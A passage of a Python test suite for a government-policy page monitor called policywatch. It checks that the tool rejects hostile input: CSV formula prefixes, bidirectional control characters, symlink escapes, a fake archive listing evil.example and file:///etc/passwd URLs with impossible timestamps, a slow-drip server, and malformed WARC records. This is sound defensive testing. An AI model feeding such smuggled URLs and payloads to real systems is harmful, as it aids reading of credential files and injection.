        ).stdout,
    ]
    import csv
    import io

    for text in outputs:
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert any(evil in c for c in cells), text[:300]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text[:500]


def test_bidi_controls_never_reach_html_feeds_or_digests(permits_site, write_config, tmp_path):
    permits_site.night(1)
    mbox = tmp_path / "out.mbox"
    cfg = write_config(
        permits_config_body(permits_site)
        + f'\n[mail]\nmbox = "{mbox.as_posix()}"\nsender = "pw@example.org"\n'
        + '[[subscriber]]\nemail = "ana@example.org"\nmin_significance = "low"\n'
    )
    assert policywatch("run", "--config", str(cfg)).returncode == 0
    page, ctype = permits_site.server.pages["/en/work-permits.html"]
    permits_site.night(2)
    body, ctype = permits_site.server.pages["/en/work-permits.html"]
    rlo = "\u202e"
    permits_site.server.pages["/en/work-permits.html"] = (
        body.replace(b"<h1", ("<p>Fee " + rlo + "551$ " + "\u2066x\u2069</p><h1").encode(), 1),
        ctype,
    )
    assert policywatch("run", "--config", str(cfg)).returncode == 0
    assert policywatch("site", "--config", str(cfg)).returncode == 0
    written = [f for f in (tmp_path / "reports").rglob("*") if f.is_file()] + [mbox]
    assert any("551$" in f.read_text(errors="replace") for f in written)  # the text itself is shown
    for f in written:
        text = f.read_text(errors="replace")
        assert rlo not in text and "\u2066" not in text, f
    assert stat.S_IMODE(mbox.stat().st_mode) == 0o600  # addresses and digests: the operator's only


def test_site_never_writes_through_a_symlink_out_of_its_folder(permits_site, write_config, tmp_path):
    cfg = write_config(permits_config_body(permits_site))
    for night in (1, 2):
        permits_site.night(night)
        assert policywatch("run", "--config", str(cfg)).returncode == 0
    site = tmp_path / "reports" / "site"
    outside = tmp_path / "outside"
    outside.mkdir()
    import shutil

    shutil.rmtree(site / "changes")
    (site / "changes").symlink_to(outside, target_is_directory=True)
    p = policywatch("site", "--config", str(cfg))
    assert p.returncode != 0 and "symbolic link" in p.stderr and "Traceback" not in p.stderr
    assert list(outside.iterdir()) == []


# --- issue 28: a hostile archive --------------------------------------------------------------------------
def _archive_config(write_config, port: int, *, timeout: float = 60, storage: str | None = None) -> Path:
    from tests.archive_fixture import HUB

    return write_config(
        f'[crawl]\nallowed_domains = ["www.canada.ca"]\n\n[archive]\nurl = "http://127.0.0.1:{port}"\n'
        f'delay = 0\nretries = 0\ntimeout = {timeout}\n\n[[watch]]\nurl = "{HUB}"\n',
        storage=storage,
    )


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_backfill_refuses_what_a_hostile_archive_lists(backend, write_config, tmp_path, request):
    """Impossible, non-ASCII and future timestamps, other sites' URLs and a gzip capture sent as bytes: each
    costs its row, never the backfill; nothing of them is stored, and a later live pass is not compared with
    a capture dated 2999."""
    import gzip

    from tests.archive_fixture import HUB, FakeArchive, digest, page

    storage = request.getfixturevalue("pg_url") if backend == "postgresql" else None
    archive = FakeArchive()
    good = page("# Hub\n\nApplicants pay the $155 fee.", 1, "2024-01-02")
    future = page("# Hub\n\nApplicants pay the $102 fee.", 1, "2999-12-31")
    archive.add(HUB, "20240102030405", good)
    gz_body = page("# Hub\n\nApplicants pay the $230 fee.", 1, "2024-02-01")
    hostile = [
        ("1", HUB, good),
        ("20231399999999", HUB, good),
        ("２０２４０１０２０３０４０５", HUB, good),
        ("29991231000000", HUB, future),
        ("20240103000000", "http://evil.example/en/page.html", good),
        ("20240104000000", "file:///etc/passwd", good),
    ]
    real = archive.answer

    def answer(path: str):
        if path.startswith("/cdx/"):
            status, headers, body = real(path)
            rows = json.loads(body)
            if len(rows) > 1:
                rows += [
                    ["x", ts, orig, "text/html", "200", digest(b + ts.encode()), "1"]
                    for ts, orig, b in hostile
                ]
                rows.append(["x", "20240201000000", HUB, "text/html", "200", "GZ", "1"])
            return status, headers, json.dumps(rows).encode()
        if "20240201000000id_" in path:
            return 200, {"Content-Type": "text/html", "Content-Encoding": "gzip"}, gzip.compress(gz_body)
        for ts, _orig, b in hostile:
            if f"/{ts}id_/" in path:
                return 200, {"Content-Type": "text/html"}, b
        return real(path)

    with scripted_server(answer) as port:
        cfg = _archive_config(write_config, port, storage=storage)
        p = policywatch("backfill", "--config", str(cfg))
    assert p.returncode == 0, p.stderr
    assert "Traceback" not in p.stderr and "rows skipped" in p.stderr, p.stderr
    assert "in the future" in p.stderr and "evil.example" in p.stderr
    url = storage or f"sqlite:///{(tmp_path / 'history.db').as_posix()}"
    engine = sa.create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    with engine.connect() as conn:
        pages = conn.exec_driver_sql("SELECT url FROM pages").scalars().all()
        dates = conn.exec_driver_sql("SELECT captured_at FROM versions").scalars().all()
        texts = conn.exec_driver_sql("SELECT text FROM versions").scalars().all()
    engine.dispose()
    assert pages == [HUB]
    assert all(str(d)[:4] in ("2024",) for d in dates), dates
    assert any("$230" in t for t in texts) and not any("$102" in t for t in texts)  # gzip decoded
    assert all("\x00" not in t and "\ufffd" not in t for t in texts)


def test_future_dated_version_is_never_the_one_a_live_fetch_is_compared_with(
    permits_site, write_config, tmp_path
):
    cfg = write_config(permits_config_body(permits_site))
    assert policywatch("run", "--config", str(cfg)).returncode == 0
    con = sqlite3.connect(tmp_path / "history.db")
    # a version dated 2999 (as a hostile archive row would leave it), with other content
    con.execute(
        "INSERT INTO versions (page_id, fetch_id, captured_at, content_hash, raw_hash, title, text, blocks, "
        "meta) "
        "SELECT page_id, fetch_id, '2999-12-31 00:00:00.000000', 'f' || content_hash, raw_hash, title, "
        "'Fee: $102', blocks, meta FROM versions"
    )
    con.commit()
    for _ in range(2):  # the same night again, twice: nothing changed against the real last version
        p = policywatch("run", "--config", str(cfg))
        assert p.returncode == 0, p.stderr
    changes = con.execute("SELECT count(*) FROM changes WHERE kind = 'changed'").fetchone()[0]
    con.close()
    assert changes == 0


def test_archive_request_has_a_total_deadline(write_config, tmp_path):
    """A server that drips a byte at a time never times out per read; the request's deadline ends it."""
    import socket

    from tests.archive_fixture import HUB

    stop = threading.Event()
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    port = srv.getsockname()[1]

    def serve() -> None:
        srv.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            with conn:
                conn.sendall(
                    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
                )
                for _ in range(600):  # bounded: at most 60 s of drip
                    if stop.wait(0.1):
                        break
                    try:
                        conn.sendall(b" ")
                    except OSError:
                        break

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        cfg = _archive_config(write_config, port, timeout=1)
        started = time.monotonic()
        p = policywatch("backfill", "--config", str(cfg), "--url", HUB, timeout=120)
        elapsed = time.monotonic() - started
    finally:
        stop.set()
        t.join(5)
        srv.close()
    assert p.returncode == 1 and "[archive] timeout" in p.stderr, p.stderr
    assert elapsed < 20  # the 60 s drip was cut at the 1 s deadline


def test_backfill_from_and_to_are_validated(write_config):
    cfg = _archive_config(write_config, 9)
    for option, value in (("--from", "20231399"), ("--to", "yesterday"), ("--from", "2023-02-30")):
        p = policywatch("backfill", "--config", str(cfg), option, value)
        assert p.returncode == 2 and option in p.stderr and "Traceback" not in p.stderr, p.stderr


def test_hostile_warc_files_cost_one_record(write_config, tmp_path):
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    from tests.archive_fixture import HUB, page

    path = tmp_path / "in.warc"
    with open(path, "wb") as f:
        writer = WARCWriter(f, gzip=False)
        for ts, body in [
            ("2024-01-02T03:04:05Z", page("# Hub\n\nApplicants pay the $155 fee.", 1, "2024-01-02")),
            ("2024-02-02T03:04:05Z", b"<html>" + b"x" * (33 * 1024 * 1024) + b"</html>"),  # over the cap
            ("2999-01-01T00:00:00Z", page("# Hub\n\nApplicants pay the $102 fee.", 1, "2999-01-01")),
            ("2024-03-02T03:04:05Z", page("# Hub\n\nApplicants pay the $230 fee.", 1, "2024-03-02")),
        ]:
            headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
            rec = writer.create_warc_record(
                HUB,
                "response",
                payload=io.BytesIO(body),
                http_headers=headers,
                warc_headers_dict={"WARC-Date": ts},
            )
            writer.write_record(rec)
        f.write(b"GARBAGE\r\n\r\nbroken")  # a record with a broken header
    cfg = _archive_config(write_config, 9)
    p = policywatch("backfill", "--config", str(cfg), "--warc", str(path), timeout=300)
    assert p.returncode == 0, p.stderr
    assert "Traceback" not in p.stderr
    assert "larger than 32 MB" in p.stderr and "malformed" in p.stderr and "in the future" in p.stderr
    con = sqlite3.connect(tmp_path / "history.db")
    texts = [t for (t,) in con.execute("SELECT text FROM versions ORDER BY captured_at")]
    con.close()
    assert len(texts) == 2 and "$155" in texts[0] and "$230" in texts[1]
